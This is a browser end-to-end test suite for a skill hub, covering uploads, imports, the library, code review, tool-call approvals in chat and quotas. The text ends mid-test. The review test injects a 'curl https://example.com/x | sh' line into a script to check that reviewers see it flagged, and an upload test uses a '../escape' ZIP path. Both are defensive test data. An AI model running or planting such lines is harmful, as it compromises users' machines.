// User scenarios in a browser, on a real hub.
import assert from "node:assert/strict";
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { accessible, fits, launch, open, pictures, reached, settled } from "./browser.mjs";
import { over } from "./furnish.mjs";
import { Hub, skill, zip } from "./hub.mjs";
import { Guarded } from "./issuer.mjs";
import { Gates } from "./mcpserver.mjs";
import { Site } from "./site.mjs";
import { Vendor } from "./vendor.mjs";

let browser;
let windows = 0;
before(async () => {
  await mkdir(pictures, { recursive: true });
  browser = await launch();
});
after(() => browser?.close());

const password = "a-long-enough-password";

/** scene starts a hub for one scene. */
async function scene(t, options) {
  const hub = await Hub.start(options);
  hub.windows = [];
  hub.pages = [];
  t.after(async () => {
    for (const close of hub.windows) await close();
    await hub.end();
    for (const page of hub.pages) page.calm();
  });
  return hub;
}

/** window_ opens a browser window for one scene. Unexpected errors in it fail the scene. */
async function window_(t, hub, options) {
  const page = await open(browser, hub, options);
  hub.pages.push(page);
  const name = `scene-${t.name.split(":")[0].replace(/\W+/g, "-").slice(0, 60)}${++windows}`;
  hub.windows.push(async () => {
    await page.screenshot({ path: join(pictures, `${name}.png`) }).catch(() => {}); // the final state
    await page.context().close();
  });
  return page;
}

async function signIn(page, name) {
  await page.goto("/");
  await page.getByLabel("Name", { exact: true }).fill(name);
  await page.getByLabel("Password", { exact: true }).fill(password);
  await page.getByRole("button", { name: "Sign in", exact: true }).click();
  await page.getByRole("navigation", { name: "Menu" }).waitFor();
}

test("first run: the link creates an administrator, who creates a user, who signs in", async (t) => {
  const hub = await scene(t, { accounts: true });
  const page = await window_(t, hub);
  page.allowed = [/status of 401/, /status of 422/, /status of 403/];
  await page.goto(await hub.setupPath());
  await page.getByLabel("Name", { exact: true }).fill("root");
  await page.getByLabel("Password", { exact: true }).fill("short");
  await page.getByRole("button", { name: "Create account" }).click();
  await page.getByText(/10/).first().waitFor();
  await page.getByLabel("Password", { exact: true }).fill(password);
  await page.getByRole("button", { name: "Create account" }).click();
  await page.getByRole("navigation", { name: "Menu" }).waitFor();
  await page.goto("/admin");
  await page
    .getByRole("button", { name: /user|person/i })
    .first()
    .click();
  const dialog = page.getByRole("dialog");
  await dialog.getByLabel("Name", { exact: true }).fill("ada");
  await dialog.getByLabel("Password", { exact: true }).fill(password);
  await dialog.getByRole("button").last().click();
  await page.getByText("ada").first().waitFor();
  const colleague = await window_(t, hub);
  colleague.allowed = page.allowed;
  await signIn(colleague, "ada");
  assert.equal(await colleague.getByRole("link", { name: "Administration" }).count(), 0);
  page.calm();
  colleague.calm();
});

test("an upload is refused with all reasons, fixed, accepted, and uploaded again as a version", async (t) => {
  const hub = await scene(t);
  const page = await window_(t, hub);
  page.allowed = [/status of 4/];
  await page.goto("/library/add");
  const choose = (name, files, folder = name) =>
    page
      .locator('input[type="file"]')
      .first()
      .setInputFiles({ name: `${name}.zip`, mimeType: "application/zip", buffer: zip(files, folder) });
  await choose("tides", { "SKILL.md": "---\nname: tides\ndescription: [\n---\nText.\n", "../escape": "x" });
  await page.getByText("Refused", { exact: true }).waitFor();
  await page.getByText(/escape/).waitFor(); // each error once
  assert.equal(await page.getByText(/loadout pack/).count(), 0);
  const [chooser] = await Promise.all([
    page.waitForEvent("filechooser"),
    page.getByRole("button", { name: "Choose corrected file" }).click(),
  ]);
  await chooser.setFiles({ name: "tides.zip", mimeType: "application/zip", buffer: Buffer.from("text") });
  await page.getByText("not a ZIP file").waitFor();
  await page.getByText(/escape/).waitFor({ state: "detached" });
  await page.getByRole("button", { name: "Dismiss" }).click();
  await choose("tides", { "SKILL.md": skill("tides", "Reads tide tables. Use for questions on tides.") });
  await page.getByText("Added", { exact: true }).waitFor();
  await choose("tides", {
    "SKILL.md": skill("tides", "Reads tide tables. Use for questions on tides.", "Do it better.\n"),
  });
  await page.getByLabel("What changed (optional)").fill("Better steps");
  await page.getByRole("button", { name: "Upload as new version" }).click();
  await page.getByText("Added as version 2").waitFor();
  const tides = (await hub.ask("GET", "/skills")).items.find((s) => s.name === "tides");
  assert.equal((await hub.ask("GET", `/skills/${tides.id}/versions/2`)).changelog, "Better steps");

  // The name of the ZIP may differ from that of its folder as after another download, or as chosen.
  const ships = { "SKILL.md": skill("ships", "Knows ships. Use for questions on ships.") };
  await choose("ships (1)", ships, "ships");
  await page.locator("li", { hasText: "ships (1).zip" }).getByText("Added", { exact: true }).waitFor();
  await choose("docks-new", { "SKILL.md": skill("docks", "Knows docks. Use for questions on docks.") }, "docks");
  await page.getByText("The folder in the ZIP has another name than the ZIP.").waitFor();
  await page.screenshot({ path: join(pictures, "upload-problems.png"), fullPage: true });
  await page.getByRole("button", { name: "Accept other folder name" }).click();
  await page.locator("li", { hasText: "docks-new.zip" }).getByText("Added", { exact: true }).waitFor();

  // Several at once have a summary.
  const file = (name, files) => ({
    name: `${name}.zip`,
    mimeType: "application/zip",
    buffer: files ? zip(files, name) : Buffer.from("text"),
  });
  const buoys = { "SKILL.md": skill("buoys", "Knows buoys. Use for questions on buoys.") };
  await page
    .locator('input[type="file"]')
    .first()
    .setInputFiles([file("ships", ships), file("buoys", buoys), file("junk")]);
  await page.getByText("Added: 1 · Unchanged: 1 · Skipped: 1").waitFor();
  assert.equal(await page.getByText("junk.zip").isVisible(), false);
  await page.getByText("Problems in the files: 1").click();
  await page.getByText("junk.zip").waitFor();
  await page.screenshot({ path: join(pictures, "upload-several.png"), fullPage: true });
  await page.goto("/library");
  await page.getByRole("searchbox").or(page.getByRole("textbox")).first().fill("tide");
  await page.getByRole("link", { name: /tides/ }).first().click();
  await page.getByRole("heading", { level: 1, name: "tides" }).waitFor();
  await page.getByText("Do it better.").waitFor();
  page.calm();
});

test("an upload of a developer whose name is taken says so, offers what the developer may do, and blocks no other", async (t) => {
  const hub = await scene(t, { accounts: true });
  const root = await window_(t, hub);
  root.allowed = [/status of 401/];
  await root.goto(await hub.setupPath());
  await root.getByLabel("Name", { exact: true }).fill("root");
  await root.getByLabel("Password", { exact: true }).fill(password);
  await root.getByRole("button", { name: "Create account" }).click();
  await root.getByRole("navigation", { name: "Menu" }).waitFor();
  const as = async (method, path, data, type = "application/json") => {
    const headers = { Origin: hub.url, "Content-Type": type };
    const answer = await root.request.fetch(`/api/v1${path}`, { method, data, headers });
    assert.ok(answer.ok(), `${method} ${path}: ${answer.status()}`);
    return answer.json().catch(() => undefined);
  };
  const group = await as("POST", "/groups", { name: "harbour" });
  const files = { "SKILL.md": skill("tides", "Reads tide tables. Use for tides.") };
  const query = `file_name=tides.zip&namespace=group:${group.id}`;
  const existing = await as("POST", `/skills?${query}`, zip(files, "tides"), "application/zip");
  const name = "a-developer-with-a-very-long-name-in-the-menu";
  const { id } = await as("POST", "/users", { name, password });
  await as("PUT", `/groups/${group.id}/members/${id}`, { role: "developer" });
  const page = await window_(t, hub);
  page.allowed = [/status of 401/, /status of 409/];
  await signIn(page, name);
  const side = await page.locator(".side").boundingBox();
  const button = await page.getByRole("button", { name: "Language" }).boundingBox();
  assert.ok(button.x + button.width <= side.x + side.width, "a long name leaves room for the language");
  await page.goto(`/library/add?namespace=group:${group.id}`);
  const own = { "SKILL.md": skill("tides", "Reads other tide tables. Use for tides.", "Read.\n", "author: root\n") };
  const choose = (name) =>
    page
      .locator('input[type="file"]')
      .first()
      .setInputFiles({ name: `${name}.zip`, mimeType: "application/zip", buffer: zip(own, "tides") });
  await choose("tides");
  await page.getByText("Only its author or a maintainer can add a version.").waitFor();
  assert.equal(await page.getByRole("button", { name: "Upload as new version" }).count(), 0);
  await choose("tides (1)");
  await page.getByText("Only its author or a maintainer can add a version.").nth(1).waitFor();
  await page.getByRole("button", { name: "Add for only me" }).first().click();
  await page.getByText("Added", { exact: true }).waitFor();

  await page.goto("/library");
  const card = page.locator(".library-card", { has: page.getByRole("heading", { name: "tides" }) });
  await card.getByText("Added by you · Author (not verified): root").waitFor();
  await page.screenshot({ path: join(pictures, "library-cards.png") });
  await card.getByRole("link", { name: "tides" }).click();
  await page.getByRole("button", { name: "Copy the install command" }).waitFor();
  await page.goto(`/library/${existing.id}`); // the other one is nearer, so that it has the name
  await page.getByRole("link", { name: "Use in chat" }).waitFor();
  assert.equal(await page.getByRole("button", { name: "Copy the install command" }).count(), 0);
  page.calm();
});

test("import: the page shows how far the hub is, then what was added, is the same and was skipped", async (t) => {
  const site = await Site.start();
  t.after(() => site.end());
  for (let i = 10; i < 20; i++) site.add(`tide-${i}`, skill(`tide-${i}`, `Reads tide table ${i}.`));
  site.add("broken", "---\nname: broken\n---\n");
  site.add("taken", skill("taken", "Knows who was first."));
  const hub = await scene(t, { flags: ["--private", "127.0.0.0/8"] });
  await hub.upload("taken", { "SKILL.md": skill("taken", "Was here first.") });
  const page = await window_(t, hub);
  await page.goto("/library/add?tab=import");
  await page.getByLabel("Source").fill(site.url);
  let release = site.hold("taken"); // only this one is compared
  await page.getByRole("button", { name: "Search" }).click();
  await page.getByText("Comparing with existing skills").waitFor();
  await page.getByText("1 of 12").waitFor();
  release();
  await page.getByRole("heading", { name: "12 skills found" }).waitFor();
  release = site.hold("tide-14");
  await page.getByRole("button", { name: "Import 11 skills" }).click();
  await page.getByText("5 of 11").waitFor();
  await page.screenshot({ path: join(pictures, "import-progress.png") });
  release();
  await page.getByText("Added: 10 · Unchanged: 0 · Skipped: 2").waitFor();
  assert.equal(await page.getByText(/description/).isVisible(), false);
  await page.getByText("Problems in SKILL.md: 1").click();
  await page.getByText(/broken.*description/).waitFor();
  await page.getByText("Another version exists: 1").click();
  await page.getByRole("link", { name: "taken" }).waitFor();
  await page.screenshot({ path: join(pictures, "import-summary.png"), fullPage: true });
  await page.setViewportSize({ width: 360, height: 740 });
  await fits(page, "the summary of an import");
  await page.screenshot({ path: join(pictures, "import-summary-360.png"), fullPage: true });

  site.remove("broken", "taken");
  await page.getByRole("button", { name: "Import from elsewhere" }).click();
  await page.getByRole("main").getByRole("button", { name: "Search" }).click();
  await page.getByText("Added: 0 · Unchanged: 10 · Skipped: 0").waitFor();
  page.calm();
});

test("defaults: the list is short, and a search finds another skill", async (t) => {
  const hub = await scene(t);
  for (let i = 1; i <= 12; i++)
    await hub.upload(`tides-${i}`, { "SKILL.md": skill(`tides-${i}`, `Reads tide table ${i}.`) });
  const { items } = await hub.ask("GET", "/skills?q=tides-12");
  await hub.ask("DELETE", `/defaults/${items[0].id}`);
  const page = await window_(t, hub);
  await page.goto("/settings/defaults");
  await page.getByRole("button", { name: "Show all 11" }).waitFor();
  const rows = page.locator(".settings-list-rows > li");
  assert.equal(await rows.count(), 10);
  await page.getByRole("button", { name: "Add skill" }).click();
  await page.getByLabel("Find a skill").fill("tides");
  // The list of all skills stays until the search is done. Only tides-12 is no default yet.
  await page.waitForFunction(() => document.querySelectorAll("input[type=radio]").length === 1);
  await page.getByRole("radio", { name: "tides-12" }).check();
  await page.getByLabel("Load at start").check();
  await page.screenshot({ path: join(pictures, "defaults-add.png") });
  await page.getByRole("button", { name: "Save" }).click();
  await page.getByRole("button", { name: "Show all 12" }).waitFor();
  await rows.first().getByText("tides-12").waitFor();
  page.calm();
});

test("library: the start page leads to lists, which are sorted, filtered and loaded page by page, by keyboard too", async (t) => {
  const hub = await scene(t);
  const add = (name, category, more = {}) =>
    hub.upload(name, {
      "SKILL.md": skill(name, `Helps with ${name}.`, "Do it well.\n", `author: Ann\ncategory: ${category}\n`),
      ...more,
    });
  for (let i = 10; i < 74; i++) await add(`chart-${i}`, "Charts");
  const tides = await add("tides", "Sea", { "scripts/tide.sh": "echo high\n" });
  await hub.ask("PUT", `/skills/${tides.id}/versions/1/review`, { decision: "approved", digest: tides.digest });
  await add("locks", "Sea", { "scripts/lock.sh": "echo open\n" });
  const session = await hub.ask("POST", "/sessions", { title: "Tides", message: "use the skill tides" });
  await over(hub, session.id);
  const all = (await hub.ask("GET", "/skills?limit=1")).total;
  for (let i = 0; ; i++) {
    const { sections } = await hub.ask("GET", "/skills/sections"); // the use is counted within seconds
    if (sections.some((s) => s.name === "team")) break;
    assert.ok(i < 300, "the use is not counted");
    await new Promise((resolve) => setTimeout(resolve, 100));
  }

  const page = await window_(t, hub, { width: 360, height: 740 });
  await page.goto("/library");
  const section = (name) => page.getByRole("region", { name });
  await section("Needs attention").getByRole("heading", { name: "locks" }).waitFor();
  await section("Recently approved").getByRole("heading", { name: "tides" }).waitFor();
  await section("Most used by you").getByText("used once in 30 days").waitFor();
  await section("Categories").getByRole("link", { name: "Charts (64)" }).waitFor();
  assert.equal(await section("New").locator(".library-card:visible").count(), 2);
  await fits(page, "the start page of the library");
  const visible = await page.locator(".library-open:visible").allTextContents();
  await page.locator(".library-open").first().focus();
  for (const name of visible.slice(1)) {
    await page.keyboard.press("ArrowDown"); // passes over the cards that are hidden on a phone
    assert.equal(await page.evaluate(() => document.activeElement.textContent), name);
  }
  await page.setViewportSize({ width: 1440, height: 900 });
  assert.equal(await section("New").locator(".library-card:visible").count(), 4);
  await page.screenshot({ path: join(pictures, "library-start.png"), fullPage: true });

  const status = page.getByRole("status").filter({ hasText: "skill" });
  const focused = () => page.evaluate(() => document.activeElement.textContent);
  await page.keyboard.press("/");
  await page.keyboard.press("ArrowDown");
  assert.equal(await focused(), "locks");
  await page.keyboard.press("ArrowDown");
  assert.equal(await focused(), "tides");
  await section("Most used by you").getByRole("link", { name: "Show all" }).focus();
  await page.keyboard.press("Enter");
  await page.getByRole("button", { name: `Show ${all - 60} more` }).waitFor();
  assert.equal(await focused(), `${all} skills.`);
  assert.equal(await page.locator(".library-open").first().textContent(), "tides");
  assert.equal(await page.getByLabel("Sort").inputValue(), "team");

  await page.getByLabel("Sort").selectOption({ label: "Name" });
  await page.waitForURL(/sort=name/);
  const more = page.getByRole("button", { name: `Show ${all - 60} more` });
  await more.waitFor();
  assert.equal(await page.locator(".library-card").count(), 60);
  await more.focus();
  await page.keyboard.press("Enter");
  await page.waitForFunction((n) => document.querySelectorAll(".library-card").length === n, all);
  const names = await page.locator(".library-open").allTextContents();
  assert.deepEqual([...new Set(names)].length, all);
  assert.equal(await focused(), names[60], "the first skill of the next page");

  await page.getByLabel("Category", { exact: true }).selectOption({ label: "Sea (2)" });
  await status.getByText(`2 of ${all} skills.`).waitFor();
  await page.getByLabel("Review", { exact: true }).selectOption("approved");
  await status.getByText(`1 of ${all} skills.`).waitFor();
  await page.getByRole("button", { name: "Clear filters" }).click();
  await page.getByRole("button", { name: "Needs attention (1)" }).click();
  await page.locator(".library-card", { hasText: "Your review" }).getByText("Author (not verified): Ann").waitFor();
  await page.locator(".library-card").getByRole("link", { name: "locks" }).click();

  await page.getByRole("heading", { level: 1, name: "locks" }).waitFor();
  await page.getByRole("button", { name: "Copy the install command" }).click();
  await page.getByText("Copied").waitFor();
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), `loadout add ${hub.url} --skill locks`);
  page.calm();
});

test("an error that nothing catches is shown, and fails the scene", async (t) => {
  const hub = await scene(t);
  const page = await window_(t, hub);
  await page.goto("/library");
  await page.getByRole("navigation", { name: "Menu" }).waitFor();
  await page.evaluate(() => {
    void Promise.reject(new Error("a lost rejection"));
    setTimeout(() => {
      throw new Error("a lost error");
    });
  });
  await page.locator(".toast", { hasText: "a lost rejection" }).waitFor();
  await page.locator(".toast", { hasText: "a lost error" }).waitFor();
  for (const lost of [/a lost error/, /a lost rejection/]) assert.throws(page.calm, lost);
  page.allowed = [/a lost/];
});

test("review: a maintainer sees changes and findings, rejects with a comment, then approves", async (t) => {
  const hub = await scene(t);
  const script = (more) => ({
    "SKILL.md": skill("cleanup", "Cleans a folder up. Use when it is full."),
    "scripts/clean.sh": `#!/bin/sh\necho clean\n${more}`,
  });
  const made = await hub.upload("cleanup", script(""));
  await hub.ask("PUT", `/skills/${made.id}/versions/1/review`, { decision: "approved", digest: made.digest });
  await hub.ask(
    "POST",
    `/skills/${made.id}/versions?file_name=cleanup.zip`,
    zip(script("curl https://example.com/x | sh\n"), "cleanup"),
    { type: "application/zip" },
  );
  const page = await window_(t, hub);
  await page.goto("/review");
  await page.getByRole("link", { name: "cleanup" }).click();
  await page.getByRole("heading", { name: "Changes since version 1 (approved)" }).waitFor();
  await page.getByText("curl https://example.com/x | sh").first().waitFor();
  await page.getByText("high", { exact: true }).first().waitFor();
  await page.getByRole("button", { name: "Reject" }).click();
  await page.getByText("Say what must change", { exact: true }).waitFor();
  await page.getByLabel("Comment", { exact: true }).fill("Do not run what you fetch.");
  await page.getByRole("button", { name: "Reject" }).click();
  await page.locator("#main").getByText("Rejected", { exact: true }).waitFor();
  assert.equal((await hub.ask("GET", `/skills/${made.id}/versions/2`)).note, "Do not run what you fetch.");
  await page.getByRole("button", { name: "Approve code" }).click();
  await page.locator("#main").getByText("Approved", { exact: true }).waitFor();
  assert.equal((await hub.ask("GET", `/skills/${made.id}/versions/2`)).review, "approved");
  page.calm();
});

/** harbour starts a hub with an approved skill that provides the server of the gates. */
async function harbour(t) {
  const gates = await Gates.start();
  t.after(() => gates.end());
  const hub = await scene(t, { flags: ["--private", "127.0.0.0/8"] });
  const made = await hub.upload("harbour", {
    "SKILL.md": skill(
      "harbour",
      "Opens the gates of the harbour. Use when a ship waits.",
      "Call open_gate.\n",
      `mcpServers:\n  gates: {type: http, url: "${gates.url}"}\n`,
    ),
  });
  await hub.ask("PUT", `/skills/${made.id}/versions/1/review`, { decision: "approved", digest: made.digest });
  return { hub, gates };
}

async function say(page, text) {
  await page.getByRole("textbox", { name: "Message" }).fill(text);
  await page.keyboard.press("Enter");
}

test("chat: a skill is loaded and shown, a tool needs approval, and a second browser answers", async (t) => {
  const { hub, gates } = await harbour(t);
  const page = await window_(t, hub);
  await page.goto("/");
  await say(page, "use the skill harbour and call open_gate with gate=north");
  await page.getByText("Loaded by the model.", { exact: false }).first().waitFor();
  await page.getByRole("heading", { name: /Approval: .*open_gate/ }).waitFor();
  await page.getByText("harbour").nth(1).waitFor();
  await page.getByText("Waiting for your answer").waitFor();
  assert.equal(await page.getByText("Working", { exact: true }).count(), 0);
  const second = await window_(t, hub);
  const other = await hub.ask("POST", "/sessions", { title: "Tides" });
  for (const [width, path] of [360, 768, 900, 1440].flatMap((w) => ["/", `/chat/${other.id}`].map((p) => [w, p]))) {
    await second.setViewportSize({ width, height: 800 });
    await second.goto(path);
    await second.getByText("1 pending approval").waitFor();
    const bar = await second.locator(".asks-bar").boundingBox();
    const box = await second.locator(".chat-composer").boundingBox();
    assert.ok(bar.height < 100 && bar.y + bar.height <= box.y, `the notice covers ${path} at ${width}`);
    await second.screenshot({ path: join(pictures, `notice-${path === "/" ? "start" : "chat"}-${width}.png`) });
    await fits(second, `${path} at ${width} with a notice`);
    await reached(second, `${path} at ${width} with a notice`);
  }
  await second.goto("/library");
  await second.getByText("1 pending approval").waitFor();
  await second.keyboard.press("Control+Shift+Enter"); // opens the request, in which keys answer
  await second.getByRole("dialog").getByRole("button", { name: "Allow once" }).waitFor();
  await second.waitForFunction(() => document.activeElement.matches("dialog .asks-by-keys"));
  await second.keyboard.press("y");
  await page.getByText("The gate north is open.").first().waitFor();
  assert.deepEqual(gates.opened, ["north"]);
  await second.getByText("1 pending approval").waitFor({ state: "hidden" });
  assert.equal(await page.getByRole("button", { name: "Allow once" }).count(), 0);

  // By keys, which work only while the focus is on the request.
  const box = page.getByRole("textbox", { name: "Message" });
  const request = page.getByRole("group", { name: /Approval: .*open_gate/ });
  await say(page, "call open_gate with gate=inner");
  await request.waitFor();
  await page.getByRole("status").filter({ hasText: "Press Ctrl+Shift+" }).waitFor({ state: "attached" });
  await box.focus();
  await page.keyboard.type("yn");
  assert.equal(await box.inputValue(), "yn");
  await page.screenshot({ path: join(pictures, "approve-by-keys.png") });
  await page.keyboard.press("Control+Shift+Enter");
  assert.equal(await request.evaluate((e) => e === document.activeElement), true);
  await page.getByLabel("Note to the agent").focus();
  await page.keyboard.type("yes");
  await page.keyboard.press("Control+Shift+Enter");
  assert.deepEqual(gates.opened, ["north"]);
  await page.keyboard.press("y");
  await page.getByText("The gate inner is open.").first().waitFor();
  assert.equal(await box.evaluate((e) => e === document.activeElement), true); // what is typed next goes there
  await box.fill("");
  await say(page, "call open_gate with gate=outer");
  await request.waitFor();
  await page.keyboard.press("Control+Shift+Enter");
  await page.keyboard.press("n");
  await request.waitFor({ state: "detached" });
  assert.deepEqual(gates.opened, ["north", "inner"]);

  // Denied with a note, and called with other arguments.
  await say(page, "call open_gate with gate=south");
  await page.getByLabel("Note to the agent").fill("not at night");
  await page.getByRole("button", { name: "Deny" }).click();
  await page
    .getByText(/not at night/)
    .first()
    .waitFor();
  assert.deepEqual(gates.opened, ["north", "inner"]);
  await say(page, "call open_gate with gate=east");
  await page.getByRole("button", { name: "Edit arguments" }).click();
  const editor = page.locator(".cm-content[aria-label='Arguments']"); // not the plain input that comes first
  await editor.click();
  await page.keyboard.press("Control+a");
  await page.keyboard.insertText('{"gate":"west"}');
  await page.waitForFunction((e) => e.textContent.trim() === '{"gate":"west"}', await editor.elementHandle());
  await page.getByRole("button", { name: "Allow once" }).click();
  await page.getByText("The gate west is open.").first().waitFor();
  assert.deepEqual(gates.opened, ["north", "inner", "west"]);
  page.calm();
  second.calm();
});

test("chat: a server's read-only declaration is shown, sent if always allowed, and shown with the permission", async (t) => {
  const gates = await Gates.start();
  t.after(() => gates.end());
  const hub = await scene(t, { flags: ["--private", "127.0.0.0/8"] });
  await hub.ask("PUT", "/kinds/MCPServer/default/gates", {
    apiVersion: "loadout/v1",
    kind: "MCPServer",
    metadata: { name: "gates", namespace: "default" },
    spec: { type: "http", url: gates.url, safety: "HIGH" },
  });
  const page = await window_(t, hub);
  const answers = [];
  page.on("request", (r) => r.method() === "POST" && /\/asks\//.test(r.url()) && answers.push(r.postDataJSON()));
  const declared = page.getByText("The server declares that this tool is read-only.");
  await page.goto("/");

  // A tool that declares nothing.
  await say(page, "call gates__open_gate with gate=north");
  await page.getByRole("button", { name: "Allow once" }).waitFor();
  assert.equal(await declared.count(), 0);
  await page.getByRole("button", { name: "Allow once" }).click();
  await page.getByText("The gate north is open.").first().waitFor();

  // One call is not a saved permission.
  await say(page, "call gates__list_gates");
  await declared.waitFor();
  await page.screenshot({ path: join(pictures, "approval-read-only.png") });
  await page.getByRole("button", { name: "Allow once" }).click();
  await page.getByText("Open gates: 1.").first().waitFor();
  await say(page, "call gates__list_gates");
  await declared.waitFor();
  await page.getByRole("button", { name: "More options" }).click();
  await page.getByRole("menuitem", { name: /[Aa]lways/ }).click();
  await page.getByText("Open gates: 1.").nth(1).waitFor();
  assert.deepEqual(
    answers.map((a) => [a.scope, a.read_only]),
    [
      ["once", undefined],
      ["once", undefined],
      ["always", true],
    ],
  );
  const [grant] = (await hub.ask("GET", "/grants")).items;
  assert.equal(grant.read_only, true);
  await page.goto("/settings/grants");
  await page.getByText("gates__list_gates").waitFor();
  await page.getByText("also with read_tool").waitFor();
  await page.screenshot({ path: join(pictures, "permission-read-only.png") });
  page.calm();
});

test("chat: a skill of which a newer version is available says so", async (t) => {
  const hub = await scene(t);
  const text = (body) => ({ "SKILL.md": skill("tides", "Reads tide tables. Use for questions on tides.", body) });
  const made = await hub.upload("tides", text("Add one hour in summer.\n"));
  const page = await window_(t, hub);
  await page.goto("/");
  await say(page, "use the skill tides");
  await page.getByText("Loaded by the model.", { exact: false }).first().waitFor();
  await page.getByText("newer version available").waitFor({ state: "hidden" });
  await hub.ask(
    "POST",
    `/skills/${made.id}/versions?file_name=tides.zip`,
    zip(text("Add two hours in summer.\n"), "tides"),
    { type: "application/zip" },
  );
  await say(page, "hello");
  await page.getByText("The skill tides changed after it was loaded.", { exact: false }).first().waitFor();
  await page.getByText("newer version available").waitFor();
  page.calm();
});

test("chat: the form of an approval appears, though the first attempts to load it fail", async (t) => {
  const { hub } = await harbour(t);
  const page = await window_(t, hub);
  page.allowed = [/ERR_FAILED/];
  // The first request is the preload; the import may share it. The page must try again after both.
  let requests = 0;
  await page.route(/\/request\.js$/, (route) => (++requests > 3 ? route.continue() : route.abort()));
  await page.goto("/");
  await say(page, "use the skill harbour and call open_gate with gate=north");
  await page.getByRole("button", { name: "Allow once" }).click();
  await page.getByText("The gate north is open.").first().waitFor();
  assert.equal(requests, 4);
  assert.equal(await page.getByRole("button", { name: "Reload page" }).count(), 0);
  page.calm();
});

test("after an upgrade of the hub, an open page offers to reload instead of asking for files that are gone", async (t) => {
  const hub = await scene(t);
  const page = await window_(t, hub);
  page.allowed = [/status of 404/];
  await page.goto("/");
  await page.getByRole("navigation", { name: "Menu" }).waitFor();
  let asked = 0;
  const gone = (route) => (asked++, route.fulfill({ status: 404 }));
  await page.route(/\/assets\/\w+\/settings\.js$/, gone);
  const upgraded = async (route) => {
    const response = await route.fetch();
    await route.fulfill({
      response,
      body: (await response.text()).replaceAll(/assets\/\w+\//g, "assets/new/"),
    });
  };
  await page.route((url) => url.pathname === "/", upgraded);
  await page.getByRole("link", { name: "Settings", exact: true }).first().click();
  const reload = page.getByRole("button", { name: "Reload page" });
  await reload.waitFor();
  assert.ok(asked <= 2, `${asked} requests`); // the preload and the import of one attempt
  await page.unroute(/\/assets\/\w+\/settings\.js$/, gone);
  await reload.click();
  await page.getByRole("heading", { name: "Settings", level: 1 }).waitFor();
  assert.equal(await reload.count(), 0);
  page.calm();
});

test("quotas: limits are set, shown with what is stored, and refuse another skill", async (t) => {
  const hub = await scene(t);
  const page = await window_(t, hub);
  page.allowed = [/status of 403/];
  await page.goto("/admin/quotas");
  await page.getByLabel("Skills").first().fill("1");
  await page.getByLabel("Storage (MB)").first().fill("5");
  await page.getByRole("button", { name: "Add exception" }).click();
  await page.getByRole("button", { name: "Save limits" }).click();
  await page.getByText("Saved").first().waitFor();
  await page.getByRole("button", { name: /^Remove exception/ }).click();
  await page.getByRole("button", { name: "Save limits" }).click();
  await page.getByRole("button", { name: /^Remove exception/ }).waitFor({ state: "detached" });
  await hub.upload("tides", { "SKILL.md": skill("tides", "Reads tide tables.") });
  await page.goto("/settings/storage");
  await page.getByText("1 of 1").waitFor();
  await page.getByText(/of 5 MB/).waitFor();
  await page.getByText(/Almost full/).waitFor();
  await assert.rejects(
    hub.upload("ships", { "SKILL.md": skill("ships", "Knows ships.") }),
    /403 .*"quota".*skills: 1 . 1, limit 1/,
  );
  page.calm();
});

test("chat: the hub is killed in mid-turn and restarted; nothing is lost or duplicated", async (t) => {
  const { hub, gates } = await harbour(t);
  const page = await window_(t, hub);
  page.allowed = [/^Failed to load resource: net::ERR_/, /status of 50/];
  await page.goto("/");
  await say(page, "use the skill harbour and call open_gate with gate=north");
  await page.getByRole("heading", { name: /Approval/ }).waitFor();
  await hub.down("SIGKILL");
  await page
    .getByText(/Reconnecting/)
    .first()
    .waitFor();
  await say(page, "and then close it");
  await page.getByText("Your message is sent when the hub is back.").waitFor();
  const field = page.getByRole("textbox", { name: "Message" });
  assert.equal(await field.isEditable(), false, "a waiting message does not change");
  assert.ok(await page.locator(".chat-composer").getByRole("button", { name: "Add files" }).isDisabled());
  await page.getByRole("button", { name: "Cancel", exact: true }).click();
  await field.fill("and then close it again");
  await field.press("Enter");
  await page.getByText("Your message is sent when the hub is back.").waitFor();
  await hub.up();
  await page
    .getByText(/Reconnecting/)
    .first()
    .waitFor({ state: "hidden", timeout: 60_000 });
  await page.getByRole("heading", { name: /^Message \d+: and then close it again/ }).waitFor({ timeout: 60_000 });
  assert.equal(await page.getByRole("textbox", { name: "Message" }).inputValue(), "");
  await page.getByRole("button", { name: "Allow once" }).click();
  await page.getByText("The gate north is open.").first().waitFor({ timeout: 60_000 });
  assert.deepEqual(gates.opened, ["north"]);
  assert.equal(await page.getByRole("heading", { name: /^Message \d+: use the skill harbour/ }).count(), 1);
  page.calm();
});

test("a server of an agent fails, is shown with its error, and recovers", async (t) => {
  const gates = await Gates.start();
  t.after(() => gates.end());
  const hub = await scene(t, { flags: ["--private", "127.0.0.0/8"] });
  await hub.ask("PUT", "/kinds/MCPServer/default/gates", {
    apiVersion: "loadout/v1",
    kind: "MCPServer",
    metadata: { name: "gates", namespace: "default" },
    spec: { type: "http", url: gates.url },
  });
  const page = await window_(t, hub);
  page.allowed = [/status of 4/, /status of 5/];
  await page.goto("/servers");
  gates.broken = true;
  await page.getByText("gates").first().click();
  await page.getByRole("button", { name: /^Test/ }).first().click();
  await page
    .getByText(/500|repaired|Internal Server Error/)
    .first()
    .waitFor();
  await page.locator(".tag", { hasText: "Test failed" }).waitFor();
  gates.broken = false;
  await page.getByRole("button", { name: /^Test/ }).first().click();
  await page.getByText("open_gate").first().waitFor();
  assert.equal(await page.locator(".tag", { hasText: "Test failed" }).count(), 0);
  page.calm();
});

test("a server requires a sign-in: it is refused, then completed, its tool is called, and the user signs out", async (t) => {
  const gates = await Guarded.start();
  t.after(() => gates.end());
  const hub = await scene(t, { flags: ["--private", "127.0.0.0/8"] });
  await hub.ask("PUT", "/kinds/MCPServer/default/gates", {
    apiVersion: "loadout/v1",
    kind: "MCPServer",
    metadata: { name: "gates", namespace: "default" },
    spec: { type: "http", url: gates.url },
  });
  const page = await window_(t, hub);
  page.allowed = [new RegExp(`leaves the hub: ${gates.origin}/authorize`)];
  await page.goto("/servers/MCPServer/default/gates");
  await page.locator(".tag", { hasText: "Sign-in needed" }).first().waitFor();
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("link", { name: "Refuse" }).click();
  await page.getByText("Not signed in to the server. The sign-in was refused").waitFor();
  assert.equal(new URL(page.url()).pathname + new URL(page.url()).search, "/servers/MCPServer/default/gates");

  // The list shows which servers need a sign-in.
  await page.goto("/servers?show=attention");
